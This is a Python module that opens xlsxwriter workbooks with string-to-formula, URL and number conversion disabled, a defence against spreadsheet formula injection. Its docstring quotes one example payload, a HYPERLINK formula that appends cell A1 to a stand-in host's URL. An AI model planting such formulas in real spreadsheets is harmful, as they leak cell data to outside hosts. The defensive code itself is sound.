"""Spreadsheets that keep text as text: the one way the workbook opens an xlsx file to write.

By default xlsxwriter turns a string that starts with ``=`` into a formula and one that looks like a
URL into a hyperlink. A customer name copied from a CRM such as
``=HYPERLINK("http://example.invalid/?x="&A1,"Open invoice")`` would then become a live formula in
the file handed to every sales manager. A workbook opened with :func:`text_safe_workbook` writes
every string as a string cell (type ``s``): formulas, URLs and number-like text included.

Every xlsx the workbook writes (quota books, sales-input sheets, review-action sheets) opens its
file here::

    from alignment.presentation.xlsx import text_safe_workbook

    with text_safe_workbook(buffer) as book:
        sheet = book.add_worksheet("Quotas")
        sheet.write_row(0, 0, ["customer_name", ...])

``ws.write``, ``write_row`` and ``write_column`` then keep text as text; numbers stay numbers.
A cell that must hold a formula the workbook itself computes is written with ``write_formula``.
"""

from __future__ import annotations

import io
from collections.abc import Callable
from pathlib import Path
from typing import IO, TYPE_CHECKING, Any

if TYPE_CHECKING:
    import xlsxwriter

#: xlsxwriter's workbook options that keep every string a string cell.
TEXT_SAFE_OPTIONS: dict[str, bool] = {
    "strings_to_formulas": False,  # "=..." stays the text the input held
    "strings_to_urls": False,  # "http://...", "mailto:..." are not made hyperlinks
    "strings_to_numbers": False,  # "007" keeps its leading zeros
}


def text_safe_workbook(target: str | Path | IO[bytes], **options: Any) -> xlsxwriter.Workbook:
    """An xlsxwriter Workbook that writes every string as text (see the module notes).

    Parameters
    ----------
    target : path or binary file object
        Where the workbook is written when it is closed (a ``BytesIO`` for
        :func:`alignment.outputs.atomic_write_bytes`).
    **options
        Other xlsxwriter workbook options (``in_memory`` is on by default). The text-safe options
        cannot be turned off here.

    Raises
    ------
    ValueError
        When ``options`` tries to turn one of :data:`TEXT_SAFE_OPTIONS` back on.
    """
    import xlsxwriter

    unsafe = sorted(k for k, v in options.items() if k in TEXT_SAFE_OPTIONS and v != TEXT_SAFE_OPTIONS[k])
    if unsafe:
        raise ValueError(f"xlsx option {', '.join(unsafe)}: expected False, so that input text stays text")
    target = str(target) if isinstance(target, Path) else target
    return xlsxwriter.Workbook(target, {"in_memory": True, **options, **TEXT_SAFE_OPTIONS})


def workbook_bytes(fill: Callable[[xlsxwriter.Workbook], None], **options: Any) -> bytes:
    """The bytes of a text-safe workbook that ``fill(book)`` writes into, for an atomic write."""
    buffer = io.BytesIO()
    book = text_safe_workbook(buffer, **options)
    try:
        fill(book)
    finally:
        book.close()
    return buffer.getvalue()


def cell_text(value: object) -> str:
    """A cell read back from a filled workbook as text: empty for a blank, ``12`` for a whole number
    a spreadsheet stored as ``12.0``, surrounding spaces dropped."""
    if value is None:
        return ""
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    return str(value).strip()


__all__ = ["TEXT_SAFE_OPTIONS", "cell_text", "text_safe_workbook", "workbook_bytes"]
